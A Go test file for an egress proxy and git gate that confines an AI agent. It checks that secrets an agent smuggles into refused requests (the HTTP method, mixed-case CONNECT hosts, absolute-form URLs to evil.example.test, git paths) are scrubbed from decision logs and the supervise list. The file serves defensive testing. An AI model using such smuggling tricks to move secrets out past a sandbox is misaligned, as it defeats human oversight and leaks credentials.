package bundle

import (
	"bufio"
	"fmt"
	"io"
	"net"
	"net/http"
	"strings"
	"testing"
	"time"
)

// The agent makes a secret it holds part of what the bundle logs about
// a request it refuses, so the value lands in the decision log (on the
// host's disk) or the supervise list. Every field of every decision
// must be scrubbed, whatever the field and whatever the case.

func TestAttackScrubDecisionFields(t *testing.T) {
	mixed := mixCase(canary)
	tests := map[string]struct {
		daemon string // "proxy" or "git-gate"
		tunnel string // CONNECT target, with TLS, before the request; "" for none
		raw    string // what the agent sends
	}{
		"method on a route with matches": {daemon: "proxy", tunnel: "api.example.test:443",
			raw: canary + " /repos/acme/x HTTP/1.1\r\nHost: api.example.test\r\n\r\n"},
		"method on a held route": {daemon: "proxy", tunnel: "held.example.test:443",
			raw: canary + " /elsewhere HTTP/1.1\r\nHost: held.example.test\r\n\r\n"},
		"method in absolute form": {daemon: "proxy",
			raw: canary + " http://evil.example.test/ HTTP/1.1\r\nHost: evil.example.test\r\n\r\n"},
		"git gate path": {daemon: "git-gate",
			raw: "GET /" + canary + ".git/info/refs?service=git-upload-pack HTTP/1.1\r\nHost: gate\r\n\r\n"},
		"git gate suffix": {daemon: "git-gate",
			raw: "GET /app.git/" + canary + " HTTP/1.1\r\nHost: gate\r\n\r\n"},
		"mixed-case CONNECT host": {daemon: "proxy",
			raw: "CONNECT " + mixed + ".evil.test:443 HTTP/1.1\r\nHost: x\r\n\r\n"},
		"mixed-case CONNECT host, bad port": {daemon: "proxy",
			raw: "CONNECT " + mixed + ":99999 HTTP/1.1\r\nHost: x\r\n\r\n"},
		"mixed-case absolute-form host": {daemon: "proxy",
			raw: "GET http://" + mixed + ".evil.test/ HTTP/1.1\r\nHost: x\r\n\r\n"},
		"mixed-case method": {daemon: "proxy", tunnel: "api.example.test:443",
			raw: mixed + " /repos/acme/x HTTP/1.1\r\nHost: api.example.test\r\n\r\n"},
	}
	for name, tc := range tests {
		t.Run(name, func(t *testing.T) {
			f := newServedFixture(t, Timeouts{})
			var c net.Conn
			if tc.tunnel != "" {
				c = f.connect(t, tc.tunnel, true)
			} else {
				c = dialT(t, f.addrs[tc.daemon])
			}
			io.WriteString(c, tc.raw)
			c.SetReadDeadline(time.Now().Add(wait))
			resp, err := http.ReadResponse(bufio.NewReader(c), &http.Request{Method: strings.Fields(tc.raw)[0]})
			if err != nil {
				t.Fatal(err)
			}
			resp.Body.Close()
			if resp.StatusCode < 400 {
				t.Fatalf("the bundle let it through: %d", resp.StatusCode)
			}
			f.b.Recorder.Flush()
			log := f.log.String()
			if !strings.Contains(log, `"verdict":"deny"`) && !strings.Contains(log, `"verdict":"hold"`) {
				t.Fatalf("no refusal logged:\n%s", log)
			}
			sup := f.get(t, "supervise", "/requests")
			for where, text := range map[string]string{"decision log": log, "supervise list": sup} {
				if strings.Contains(strings.ToLower(text), strings.ToLower(canary)) {
					t.Errorf("%s holds the secret value:\n%s", where, text)
				}
			}
		})
	}
}

// mixCase upper-cases every other letter of s.
func mixCase(s string) string {
	b := []byte(s)
	for i := 0; i < len(b); i += 2 {
		if b[i] >= 'a' && b[i] <= 'z' {
			b[i] -= 'a' - 'A'
		}
	}
	return string(b)
}

// get fetches path from the daemon name and returns the body.
func (f *servedFixture) get(t *testing.T, name, path string) string {
	t.Helper()
	resp, err := http.Get(fmt.Sprintf("http://%s%s", f.addrs[name], path))
	if err != nil {
		t.Fatal(err)
	}
	defer resp.Body.Close()
	b, _ := io.ReadAll(resp.Body)
	return string(b)
}
